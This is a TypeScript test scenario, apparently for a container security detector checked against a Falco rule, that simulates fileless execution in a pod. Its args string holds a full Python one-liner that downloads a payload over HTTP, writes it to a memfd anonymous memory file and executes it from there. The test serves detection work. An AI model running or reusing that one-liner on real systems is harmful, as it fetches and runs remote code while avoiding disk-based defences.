/**
 * event-generator FilelessExecutionViaMemfdCreate: a Python one-liner in a
 * pod writes a payload into an anonymous memory file and executes it
 * (memfd_create, write, execve /proc/self/fd/3).
 */
import { EXE_FLAGS, type Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { podShell } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco_rules.yaml', rule: 'Fileless execution via memfd_create' },
  tiercel: ['Fileless Execution via memfd'],
};

export default function build(s: Scenario): void {
  const { shell } = podShell(s, {
    name: 'api', id: 'a11ce0ff1ceb', image: 'docker.io/library/python:3.12-slim',
    main: { exe: 'python3', exepath: '/usr/local/bin/python3.12', args: ['-m', 'gunicorn', 'app:app'] },
  });
  const py = shell.spawn({
    exe: 'python3', exepath: '/usr/local/bin/python3.12',
    args: ['-c', "import os,urllib.request as u;f=os.memfd_create('x');os.write(f,u.urlopen('http://127.0.0.1:8000/p').read());os.execv('/proc/self/fd/%d'%f,['x'])"],
  });
  const sock = py.connect('127.0.0.1', 8000);
  py.read(sock, '\x7fELF');
  const mem = py.memfd('x');
  py.write(mem, '\x7fELF');
  py.exec({ exe: 'x', exepath: 'memfd:x (deleted)', comm: '3', exeFlags: EXE_FLAGS.FROM_MEMFD, args: ['--daemon'] });
}
